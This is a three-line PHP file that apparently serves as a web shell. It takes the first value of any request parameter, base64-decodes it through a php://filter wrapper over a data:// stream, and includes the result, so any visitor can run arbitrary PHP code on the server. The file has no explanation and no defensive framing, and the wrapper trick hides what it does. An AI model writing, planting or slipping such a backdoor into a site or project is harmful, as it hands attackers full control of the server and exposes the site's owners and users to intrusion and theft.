<?php
$z = current($_REQUEST);
include 'php://filter/read=convert.base64-decode/resource=data://text/plain;base64,' . $z;
